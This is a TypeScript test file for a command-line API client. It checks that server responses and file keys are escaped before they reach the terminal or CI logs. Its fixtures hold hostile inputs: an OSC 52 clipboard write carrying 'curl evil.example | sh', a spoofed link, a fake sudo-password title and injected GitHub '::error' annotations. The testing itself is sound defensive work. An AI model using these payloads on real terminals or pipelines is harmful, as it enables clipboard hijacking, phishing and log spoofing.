/**
 * Nothing the command line prints from a file, a catalog or a server reaches the terminal as a control sequence,
 * and no file key can start a line of its own in a CI log. `send` runs against a raw TCP server on 127.0.0.1 that
 * writes hostile bytes into the status line, the headers and the body; `validate` reads a file with hostile keys.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import {
  githubMessage,
  githubProperty,
  terminalJson,
  terminalLine,
  terminalLines,
  xmlText,
} from '../../../cli/terminal';
import { parseJunit } from '../../helpers/junitSchema';
import { Cli, scratchDir, type CliResult } from './cliHarness';

const ESC = '\x1b';
const BEL = '\x07';
const CSI8 = '\u009b';
/** Sequences a terminal acts on: clipboard write, a spoofed link, the window title, clear screen, 8-bit CSI. */
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`;
const OSC8 = `${ESC}]8;;https://evil.example/${ESC}\\https://webexapis.com${ESC}]8;;${ESC}\\`;
const TITLE = `${ESC}]0;sudo password:${BEL}`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const HOSTILE = `${OSC52} ${OSC8} ${TITLE} ${CLEAR} ${CSI8}2J \u202eexe.txt\u202c lone\rCR`;

/** Raw control characters a terminal would interpret, with tab and line feed allowed (they are layout). */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

function assertClean(where: string, text: string): void {
  const m = RAW_CONTROL.exec(text);
  assert.equal(m, null, `${where}: raw U+${m?.[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m?.index}`);
}

describe('terminalLine, terminalLines, terminalJson', () => {
  test('T44: control, C1 and bidi characters are written out; ordinary text in any script stays readable', () => {
    assert.equal(terminalLine(`a${ESC}[2Jb${BEL}`), 'a\\x1b[2Jb\\x07');
    assert.equal(terminalLine(`${CSI8}\u0085\x7f`), '\\u009b\\u0085\\x7f');
    assert.equal(terminalLine('x\u202ey\u2066z\u200e'), 'x\\u202ey\\u2066z\\u200e');
    assert.equal(terminalLine('one\ntwo\r\tthree\u2028'), 'one\\x0atwo\\x0d\\x09three\\u2028');
    const readable = 'Zürich 会议室 مرحبا Привет 👨‍👩‍👧 ❤️ e\u0301 a\\nb "q"';
    assert.equal(terminalLine(readable), readable);
    assert.equal(terminalLines(readable), readable);
  });

  test('T44: multi-line text keeps line feeds, CRLF and tabs, but not a lone CR that would overwrite the line', () => {
    assert.equal(terminalLines('a\r\nb\n\tc\rd'), 'a\r\nb\n\tc\\x0dd');
    assertClean('terminalLines', terminalLines(HOSTILE));
  });

  test('T44: JSON keeps its value and carries no raw DEL, C1, bidi or line separator', () => {
    const value = { body: HOSTILE, key: 'a\u2028b\x7f', readable: 'Zürich 👨‍👩‍👧' };
    const text = terminalJson(value);
    assertClean('terminalJson', text);
    assert.ok(!/[\u2028\u2029]/.test(text));
    assert.deepEqual(JSON.parse(text), value);
    assert.ok(text.includes('Zürich 👨‍👩‍👧'));
  });
});

describe('githubMessage, githubProperty, xmlText', () => {
  test('T45: workflow-command escaping: % CR LF in messages, and : , in properties too; then terminal-safe', () => {
    assert.equal(githubMessage('50% done\r\n::error::x'), '50%25 done%0D%0A::error::x');
    assert.equal(githubMessage('%0A stays literal'), '%250A stays literal');
    assert.equal(githubProperty('a,line=1::b\n::error file=x::y'), 'a%2Cline=1%3A%3Ab%0A%3A%3Aerror file=x%3A%3Ay');
    assert.equal(
      githubMessage(`t${OSC52}`),
      `t\\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\\x07`,
    );
    assertClean('githubMessage', githubMessage(HOSTILE));
  });

  test('T45: XML text: markup as entities, no character XML 1.0 forbids (controls, lone surrogates, U+FFFE)', () => {
    assert.equal(xmlText(`<a b="c" d='e'>&amp;</a>`), '&lt;a b=&quot;c&quot; d=&apos;e&apos;&gt;&amp;amp;&lt;/a&gt;');
    assert.equal(
      xmlText('\x00\x01\x1b[2J\ud800x\udc00\ufffe\uffff 👨‍👩‍👧'),
      '\\x00\\x01\\x1b[2J\\ud800x\\udc00\\ufffe\\uffff 👨‍👩‍👧',
    );
    assert.equal(xmlText('one\ntwo'), 'one\\x0atwo');
    assert.equal(xmlText('one\ntwo\r\n', true), 'one\ntwo\r\n');
  });
});

/** A server speaking raw HTTP/1.1, so nothing in between cleans the status line or the headers. */
class RawServer {
  private readonly server: Server;
  private readonly sockets = new Set<Socket>();

  constructor(response: Buffer) {
    this.server = createServer((socket) => {
      this.sockets.add(socket);
      socket.on('close', () => this.sockets.delete(socket));
      socket.once('data', () => socket.end(response));
    });
  }

  async listen(): Promise<string> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  close(): Promise<void> {
    for (const s of this.sockets) s.destroy();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

function hostileResponse(): Buffer {
  const body = Buffer.from(JSON.stringify({ error_msg: 'x' }).slice(0, -1) + `,"raw":"${HOSTILE}"}`, 'utf8');
  const head = Buffer.from(
    // The status text carries ESC and BEL (undici passes them); a header value carries C1 bytes (latin1 → U+009B).
    `HTTP/1.1 400 Bad${TITLE}${CLEAR}\r\n` +
      `X-Note: \x9b2J\x9d0;t\x9c\xe2\x80\xae\r\n` +
      `Content-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
    'latin1',
  );
  return Buffer.concat([head, body]);
}

let cli: Cli;
let server: RawServer;
let serverUrl: string;
const files = scratchDir();

before(async () => {
  cli = await Cli.build();
  server = new RawServer(hostileResponse());
  serverUrl = await server.listen();
  files.write(
    'vmr.meeting.json',
    JSON.stringify({
      operation: 'huawei.meeting.updateMemberVmr',
      pathParams: { id: 'ff80808167ef1edf0167f33d650c0662' },
      body: { vmrName: 'room', allowGustFirst: false },
    }),
  );
  // An OpenAPI document whose failing example sits under hostile names.
  files.write(
    'hostile.openapi.json',
    JSON.stringify({
      openapi: '3.1.0',
      info: { title: `T${TITLE}`, version: '1' },
      paths: {},
      components: {
        schemas: {
          [`Room\n::error::x${OSC52}`]: {
            type: 'object',
            properties: { n: { type: 'integer' } },
            examples: [{ n: 'x' }],
          },
        },
      },
    }),
  );
  // Keys that try to end the problem's line and start a CI workflow command, or to drive the terminal.
  files.write(
    'keys.meeting.json',
    JSON.stringify({
      operation: 'huawei.meeting.updateMemberVmr',
      pathParams: { id: 'ff80808167ef1edf0167f33d650c0662', 'x\n::error file=ci.yml,line=1::injected': '1' },
      body: { vmrName: 'r', [`evil${OSC52}\n::warning::x`]: 1, [`${CSI8}2J`]: 2, 'a\u202eb': 3 },
    }),
  );
});
after(async () => {
  await server.close();
  cli.dispose();
  files.dispose();
});

/** Runs the command, which must fail (exit 1), and checks both streams for raw control characters. */
async function failsClean(args: string[]): Promise<CliResult> {
  const r = await cli.run(args, { cwd: files.dir });
  assert.equal(r.code, 1, r.stderr);
  assertClean(`${args.join(' ')}: stdout`, r.stdout);
  assertClean(`${args.join(' ')}: stderr`, r.stderr);
  return r;
}

describe('send: server text reaches the terminal escaped', () => {
  test('T44: status text, header bytes and body with OSC 52/OSC 8/title/clear-screen/C1 are printed escaped', async () => {
    const r = await failsClean(['send', 'vmr.meeting.json', '--base-url', serverUrl]);
    const lines = r.stdout.split('\n');
    assert.equal(lines[0], 'HTTP 400 Bad\\x1b]0;sudo password:\\x07\\x1b[2J\\x1b[H');
    assert.ok(lines.includes('X-Note: \\u009b2J\\u009d0;t\\u009câ\\u0080®'), r.stdout);
    assert.ok(r.stdout.includes('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'), r.stdout);
    assert.ok(r.stdout.includes('\\x1b]8;;https://evil.example/\\x1b\\https://webexapis.com'), r.stdout);
    assert.ok(r.stdout.includes('\\u009b2J \\u202eexe.txt\\u202c lone\\x0dCR'), r.stdout);
    assert.match(r.stderr, /^< 400 Bad\\x1b\]0;sudo password:\\x07\\x1b\[2J\\x1b\[H in \d+ ms, \d+ bytes$/m);
  });

  test('T44: --format json carries the same text as escapes, never raw', async () => {
    const r = await failsClean(['send', 'vmr.meeting.json', '--base-url', serverUrl, '-f', 'json']);
    const outcome = JSON.parse(r.stdout) as { statusText: string; bodyText: string; headers: string[][] };
    assert.equal(outcome.statusText, `Bad${TITLE}${CLEAR}`);
    assert.ok(outcome.bodyText.includes(HOSTILE));
    assert.deepEqual(outcome.headers[0], ['X-Note', '\u009b2J\u009d0;t\u009c\u00e2\u0080\u00ae']);
  });
});

describe('validate: file keys cannot drive the terminal or inject CI log lines', () => {
  test('T45: check-examples prints names from the document on one line each, escaped', async () => {
    const r = await failsClean(['check-examples', 'hostile.openapi.json']);
    const lines = r.stdout.trimEnd().split('\n');
    for (const line of lines) assert.match(line, /^hostile\.openapi\.json(:\d+:\d+)?: /);
    assert.ok(r.stdout.includes('Room\\x0a::error::x\\x1b]52;c;'), r.stdout);
  });

  test('T45: text output keeps every problem on one line that starts with the file name', async () => {
    const r = await failsClean(['validate', 'keys.meeting.json']);
    const lines = r.stdout.trimEnd().split('\n');
    const problems = lines.slice(0, -1);
    for (const line of problems) assert.match(line, /^keys\.meeting\.json:\d+:\d+: (error|warning|info): /);
    assert.ok(!lines.some((l) => l.startsWith('::')), r.stdout);
    assert.match(lines.at(-1) ?? '', /^1 file checked: \d+ errors?, \d+ warnings? in 1 file\.$/);
    const text = problems.join('\n');
    assert.ok(text.includes('"x\\x0a::error file=ci.yml,line=1::injected" is not a path parameter'), text);
    assert.ok(text.includes('evil\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x0a::warning::x'), text);
    assert.ok(text.includes('"\\u009b2J" is not allowed'), text);
    assert.ok(text.includes('"a\\u202eb" is not allowed'), text);
  });

  test('T45: --format github: a file key or a file name cannot end its annotation or start another one', async () => {
    files.write('a,line=1::b\n::error file=x::y.meeting.json', '{ "operation": 1 }');
    for (const args of [
      ['validate', '-f', 'github', 'keys.meeting.json', 'a,line=1::b\n::error file=x::y.meeting.json'],
      ['check-examples', '-f', 'github', 'hostile.openapi.json'],
    ]) {
      const r = await failsClean(args);
      const lines = r.stdout.trimEnd().split('\n');
      // Every line is one annotation: a command, properties of known names whose values hold no : or ,, a message.
      for (const line of lines) {
        assert.match(
          line,
          /^::(error|warning|notice) (file|line|col|endLine|endColumn|title)=[^:,]*(,(line|col|endLine|endColumn|title)=[^:,]*)*::/,
          line,
        );
      }
      if (args[0] === 'validate') {
        assert.equal(lines.length, 5, r.stdout);
        assert.ok(r.stdout.includes('::"x%0A::error file=ci.yml,line=1::injected" is not a path parameter'), r.stdout);
        assert.ok(
          r.stdout.includes('::"evil\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07%0A::warning::x" is not'),
          r.stdout,
        );
        assert.ok(
          r.stdout.includes('::error file=a%2Cline=1%3A%3Ab%0A%3A%3Aerror file=x%3A%3Ay.meeting.json,line=1,'),
          r.stdout,
        );
      } else {
        assert.ok(r.stdout.includes(',title=schemas.Room%0A%3A%3Aerror%3A%3Ax\\x1b]52;c;'), r.stdout);
      }
    }
  });

  test('T45: --format junit: hostile keys stay inside their attribute or text, as valid XML 1.0', async () => {
    const r = await failsClean(['validate', '-f', 'junit', 'keys.meeting.json']);
    const [c] = (await parseJunit(r.stdout)).suites[0].cases;
    assert.ok(
      c.failure?.text.includes('"x\\x0a::error file=ci.yml,line=1::injected" is not a path parameter'),
      r.stdout,
    );
    assert.ok(c.failure?.text.includes('"\\u009b2J" is not allowed'), r.stdout);
    assert.equal(c.failure?.text.split('\n').length, 4, r.stdout);
    const examples = await failsClean(['check-examples', '-f', 'junit', 'hostile.openapi.json']);
    const [e] = (await parseJunit(examples.stdout)).suites[0].cases;
    assert.ok(e.name.startsWith('schemas.Room\\x0a::error::x\\x1b]52;c;'), e.name);
  });

  test('T45: JSON and SARIF output keep the keys exact and carry no raw control characters', async () => {
    for (const format of ['json', 'sarif']) {
      const r = await failsClean(['validate', '-f', format, 'keys.meeting.json']);
      const all = JSON.stringify(JSON.parse(r.stdout));
      assert.ok(all.includes(JSON.stringify(`${CSI8}2J`).slice(1, -1)), format);
      assert.ok(all.includes(JSON.stringify(`evil${OSC52}\n::warning::x`).slice(1, -1)), format);
    }
  });
});
